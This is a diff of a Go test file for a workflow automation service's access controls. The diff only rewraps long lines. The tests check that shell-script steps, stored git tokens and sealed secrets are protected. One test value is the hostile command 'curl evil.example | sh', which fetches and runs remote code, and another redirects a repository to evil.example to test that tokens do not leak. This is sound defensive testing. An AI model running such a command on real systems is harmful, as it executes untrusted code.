@@ -27,27 +27,34 @@ func (k *kit) holding(name string, permissions ...account.Permission) account.Ac
 	return k.actor(who.ID)
 }
 
-// The steps of a workflow are scripts wherever an automation with a script provider uses it, so changing one is a way to run
-// commands.
+// The steps of a workflow are scripts wherever an automation with a script provider uses it, so changing one is a way
+// to run commands.
 func TestStepsThatRunAsScriptsAreChangedOnlyByWhoMayWriteScripts(t *testing.T) {
 	k := setup(t)
-	wf, err := k.CreateWorkflow(t.Context(), k.mira, WorkflowInput{Name: "Flow", Steps: []StepInput{{Kind: "message", Text: "true"}}})
+	wf, err := k.CreateWorkflow(t.Context(), k.mira,
+		WorkflowInput{Name: "Flow", Steps: []StepInput{{Kind: "message", Text: "true"}}})
 	check(t, err)
 	k.create(func(in *Input) {
 		in.ExecutionType, in.Workflow, in.Prompt, in.Provider = "workflow", wf.ID.String(), "", "shell"
 	})
 	eve, otto := k.holding("Eve", account.ManageWorkflows), k.holding("Otto", account.ManageWorkflows, account.UseShell)
-	_, err = k.UpdateWorkflow(t.Context(), eve, wf.ID, WorkflowInput{Name: "Flow", Steps: []StepInput{{Kind: "message", Text: "curl evil.example | sh"}}, Version: 1})
+	_, err = k.UpdateWorkflow(t.Context(), eve, wf.ID,
+		WorkflowInput{Name: "Flow", Steps: []StepInput{{Kind: "message", Text: "curl evil.example | sh"}}, Version: 1})
 	wantInvalid(t, err, "steps")
-	_, err = k.UpdateWorkflow(t.Context(), eve, wf.ID, WorkflowInput{Name: "Renamed", Steps: []StepInput{{Kind: "message", Text: "true"}}, Version: 1})
+	_, err = k.UpdateWorkflow(t.Context(), eve, wf.ID,
+		WorkflowInput{Name: "Renamed", Steps: []StepInput{{Kind: "message", Text: "true"}}, Version: 1})
 	check(t, err)
-	_, err = k.UpdateWorkflow(t.Context(), otto, wf.ID, WorkflowInput{Name: "Renamed", Steps: []StepInput{{Kind: "message", Text: "make"}}, Version: 2})
+	_, err = k.UpdateWorkflow(t.Context(), otto, wf.ID,
+		WorkflowInput{Name: "Renamed", Steps: []StepInput{{Kind: "message", Text: "make"}}, Version: 2})
 	check(t, err)
 }
 
 func TestWhatOthersWorkspacesUseIsChangedOnlyByTheirMembers(t *testing.T) {
 	k := setup(t)
-	there := &db.Workspace{ID: db.NewID(), Name: "There", DefaultBranch: "main", Provider: "agent", CreatedAt: begun, UpdatedAt: begun, Version: 1}
+	there := &db.Workspace{
+		ID: db.NewID(), Name: "There", DefaultBranch: "main", Provider: "agent", CreatedAt: begun, UpdatedAt: begun,
+		Version: 1,
+	}
 	check(t, db.InsertWorkspace(t.Context(), k.DB, there))
 	eve := k.holding("Eve", account.ManageAll, account.ManageWorkflows, account.ManageBots, account.UseShell)
 	b := k.newBot(nil) // for all workspaces
@@ -55,7 +62,9 @@ func TestWhatOthersWorkspacesUseIsChangedOnlyByTheirMembers(t *testing.T) {
 	wf, err := k.CreateWorkflow(t.Context(), k.mira, flow)
 	check(t, err)
 	use := func(workspace uuid.UUID) {
-		for _, change := range []func(*Input){ofBot(b, nil), func(in *Input) { in.ExecutionType, in.Workflow, in.Prompt = "workflow", wf.ID.String(), "" }} {
+		for _, change := range []func(*Input){ofBot(b, nil), func(in *Input) {
+			in.ExecutionType, in.Workflow, in.Prompt = "workflow", wf.ID.String(), ""
+		}} {
 			in := k.input()
 			in.Workspace = workspace.String()
 			change(&in)
@@ -100,7 +109,8 @@ func TestAStoredTokenGoesToNoServerThatItWasNotTypedFor(t *testing.T) {
 		probed = r.Token
 		return "main", nil
 	}
-	w, err := k.CreateWorkspace(t.Context(), k.mira, WorkspaceInput{Name: "Theirs", GitURL: "https://git.example.com/a/b.git", Token: "right-token"})
+	w, err := k.CreateWorkspace(t.Context(), k.mira,
+		WorkspaceInput{Name: "Theirs", GitURL: "https://git.example.com/a/b.git", Token: "right-token"})
 	check(t, err)
 	version := w.Version
 	for _, tt := range []struct {
@@ -114,12 +124,18 @@ func TestAStoredTokenGoesToNoServerThatItWasNotTypedFor(t *testing.T) {
 		{"a forge of one's own", func(in *WorkspaceInput) {
 			in.GitURL, in.Forge, in.ForgeBase = "git@evil.example:a/b.git", "gitea", "https://evil.example"
 		}, ""},
-		{"another repository of the server", func(in *WorkspaceInput) { in.GitURL = "https://GIT.example.com/a/c.git" }, "right-token"},
-		{"with a token typed for it", func(in *WorkspaceInput) { in.GitURL, in.Token = "https://evil.example/a/b.git", "mine" }, "mine"},
+		{"another repository of the server", func(in *WorkspaceInput) {
+			in.GitURL = "https://GIT.example.com/a/c.git"
+		}, "right-token"},
+		{"with a token typed for it", func(in *WorkspaceInput) {
+			in.GitURL, in.Token = "https://evil.example/a/b.git", "mine"
+		}, "mine"},
 		{"back again", func(*WorkspaceInput) {}, ""},
 		{"without the token", func(in *WorkspaceInput) { in.ForgetToken = true }, "none"},
 	} {
-		in := WorkspaceInput{Name: "Theirs", GitURL: "https://git.example.com/a/b.git", DefaultBranch: "main", Version: version}
+		in := WorkspaceInput{
+			Name: "Theirs", GitURL: "https://git.example.com/a/b.git", DefaultBranch: "main", Version: version,
+		}
 		tt.change(&in)
 		probed = "nothing"
 		err := k.UpdateWorkspace(t.Context(), k.mira, w.ID, in)
@@ -151,21 +167,30 @@ func TestTheStoredFormOfASecretIsTakenFromNobody(t *testing.T) {
 		t.Fatalf("the stored form is %q", stored)
 	}
 	var kept int
-	check(t, k.DB.NewRaw("SELECT count(*) FROM audit_events WHERE before::text LIKE '%sealed:%' OR after::text LIKE '%sealed:%'").Scan(t.Context(), &kept))
+	check(t, k.DB.NewRaw(
+		"SELECT count(*) FROM audit_events WHERE before::text LIKE '%sealed:%' OR after::text LIKE '%sealed:%'").
+		Scan(t.Context(), &kept))
 	if kept != 0 {
 		t.Errorf("%d lines of the audit log have the stored form", kept)
 	}
 	in := k.input()
-	in.ExecutionType, in.Workflow, in.Prompt, in.Parameters = "workflow", wf.ID.String(), "", map[string]string{"key": stored}
+	in.ExecutionType, in.Workflow, in.Prompt, in.Parameters = "workflow", wf.ID.String(), "",
+		map[string]string{"key": stored}
 	_, _, err := k.Create(t.Context(), k.jonas, in)
 	wantInvalid(t, err, "param.key")
-	_, err = k.CreateWorkflow(t.Context(), k.mira, WorkflowInput{Name: "Mine", Steps: []StepInput{{Kind: "message", Text: "echo $key"}}, Parameters: []ParameterInput{{Alias: "key", Type: "secret", Default: stored}}})
+	_, err = k.CreateWorkflow(t.Context(), k.mira,
+		WorkflowInput{
+			Name: "Mine", Steps: []StepInput{{Kind: "message", Text: "echo $key"}},
+			Parameters: []ParameterInput{{Alias: "key", Type: "secret", Default: stored}},
+		})
 	wantInvalid(t, err, "parameters.0.default")
 	mine, _ := k.flow(secret, func(in *Input) { in.Name = "Mine" })
 	_, err = k.RunNow(t.Context(), k.jonas, mine.ID, map[string]string{"key": stored})
 	wantInvalid(t, err, "parameters.key")
 	var missing *MissingParameter
-	if _, err := k.Start(t.Context(), mine.ID, Trigger{Source: db.ByWebhook, Parameters: map[string]string{"key": stored}}); !errors.As(err, &missing) {
+	if _, err := k.Start(t.Context(), mine.ID, Trigger{
+		Source: db.ByWebhook, Parameters: map[string]string{"key": stored},
+	}); !errors.As(err, &missing) {
 		t.Errorf("by webhook it started, or answered %v", err)
 	}
 	// A run with the same input has it all the same.
@@ -192,11 +217,15 @@ func TestAPermissionThatIsTakenDuringAWaitIsGone(t *testing.T) {
 		take func(who account.Actor, workspace uuid.UUID) error
 		want error
 	}{
-		"the role": {func(who account.Actor, _ uuid.UUID) error { return db.SetRoles(t.Context(), k.DB, who.ID, nil) }, fault.ErrForbidden},
+		"the role": {func(who account.Actor, _ uuid.UUID) error {
+			return db.SetRoles(t.Context(), k.DB, who.ID, nil)
+		}, fault.ErrForbidden},
 		"the account": {func(who account.Actor, _ uuid.UUID) error {
 			return db.SetDeactivated(t.Context(), k.DB, who.ID, begun, begun)
 		}, fault.ErrForbidden},
-		"the membership": {func(who account.Actor, w uuid.UUID) error { return db.RemoveMember(t.Context(), k.DB, w, who.ID) }, fault.ErrNotFound},
+		"the membership": {func(who account.Actor, w uuid.UUID) error {
+			return db.RemoveMember(t.Context(), k.DB, w, who.ID)
+		}, fault.ErrNotFound},
 	} {
 		otto := k.holding("Otto"+name[4:], account.ManageWorkspaces)
 		meanwhile, in.Name = func() {}, "Of "+otto.Name
@@ -216,7 +245,10 @@ func TestAPermissionThatIsTakenDuringAWaitIsGone(t *testing.T) {
 // What decides which code runs is asked for again once the repository's server has answered.
 func TestTheRightToRunCommandsThatIsTakenDuringAWaitIsGone(t *testing.T) {
 	k := setup(t)
-	role := db.Role{ID: db.NewID(), Name: "Of workspaces", Permissions: []string{string(account.ManageWorkspaces)}, CreatedAt: begun, Version: 1}
+	role := db.Role{
+		ID: db.NewID(), Name: "Of workspaces", Permissions: []string{string(account.ManageWorkspaces)},
+		CreatedAt: begun, Version: 1,
+	}
 	check(t, db.InsertRole(t.Context(), k.DB, &role))
 	meanwhile := func() {}
 	k.Probe = func(context.Context, Remote) (string, fault.Invalid) {
@@ -273,14 +305,17 @@ func roleOf(k *kit, key string) uuid.UUID {
 // An edit that waited for a lock asks for all that it needs as of then, not only for the right to edit.
 func TestTheRightToRunCommandsThatIsTakenDuringAWaitForALockIsGone(t *testing.T) {
 	k := setup(t)
-	plain := db.Role{ID: db.NewID(), Name: "Without commands", Permissions: []string{string(account.Manage), string(account.ManageSettings)}, CreatedAt: begun, Version: 1}
+	plain := db.Role{ID: db.NewID(), Name: "Without commands", Permissions: []string{string(account.Manage),
+		string(account.ManageSettings)}, CreatedAt: begun, Version: 1}
 	check(t, db.InsertRole(t.Context(), k.DB, &plain))
 	lee := k.holding("Lee", account.Manage, account.ManageSettings, account.UseShell)
 	in := k.input()
 	a, _, err := k.Create(t.Context(), lee, in)
 	check(t, err)
 	in.Version, in.Provider, in.Prompt = a.Version, "shell", "make"
-	err = k.whileItWaits(a, func(ctx context.Context, tx bun.Tx) error { return db.SetRoles(ctx, tx, lee.ID, []uuid.UUID{plain.ID}) }, func() error {
+	err = k.whileItWaits(a, func(ctx context.Context, tx bun.Tx) error {
+		return db.SetRoles(ctx, tx, lee.ID, []uuid.UUID{plain.ID})
+	}, func() error {
 		_, _, err := k.Update(t.Context(), lee, a.ID, in)
 		return err
 	})
